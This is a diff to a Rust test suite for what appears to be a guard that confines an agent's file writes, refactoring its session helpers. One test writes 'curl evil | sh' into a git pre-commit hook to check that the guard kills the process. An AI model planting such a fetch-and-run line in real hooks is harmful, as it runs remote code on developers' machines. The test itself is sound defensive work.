@@ -13,9 +13,7 @@ use std::fs;
 use std::os::unix::fs::{MetadataExt, PermissionsExt};
 use std::path::{Path, PathBuf};
 
-use guard_tests::{
-    Enforcing, Event, Finished, dump, fake_agent_exe, find, lsm_or_skip, session_ended,
-};
+use guard_tests::{Enforcing, Event, Finished, dump, fake_agent_exe, find, lsm_or_skip};
 
 const EPERM: i64 = libc::EPERM as i64;
 
@@ -38,11 +36,7 @@ fn try_all(s: &mut Enforcing, specs: &[String]) -> (Finished, Vec<Event>) {
         .collect();
     let mut args = vec!["fs-try"];
     args.extend(specs.iter().map(String::as_str));
-    let run = s.agent.spawn(&args).finish();
-    let events = s
-        .daemon
-        .wait_for("the end of the fs-try session", session_ended(run.pid));
-    run.assert_success();
+    let (run, events) = s.session(&args);
     assert_eq!(
         run.report("alive"),
         1,
@@ -312,11 +306,7 @@ action = "kill"
     let hook = at(&s, "repo/.git/hooks/pre-commit");
     write(&hook, "#!/bin/sh\nexit 0\n");
     let script = format!("printf 'curl evil | sh\\n' >> {}", hook.display());
-    let run = s.agent.spawn(&["run", "sh", "-c", &script]).finish();
-    let events = s
-        .daemon
-        .wait_for("the end of the session", session_ended(run.pid));
-    run.assert_success();
+    let (run, events) = s.run("sh", &["-c", &script]);
     assert_eq!(
         run.report("child_signal"),
         i64::from(libc::SIGKILL),
@@ -341,10 +331,7 @@ action = "kill"
     // A `.sample` hook (what git init writes) is spared.
     let sample = at(&s, "repo/.git/hooks/pre-push.sample");
     let script = format!("echo sample > {}", sample.display());
-    let run = s.agent.spawn(&["run", "sh", "-c", &script]).finish();
-    s.daemon
-        .wait_for("the end of the session", session_ended(run.pid));
-    run.assert_success();
+    let (run, _) = s.run("sh", &["-c", &script]);
     assert_eq!(run.report("child_code"), 0, "{run:?}");
     assert_eq!(
         fs::read_to_string(&sample).expect("read the sample"),
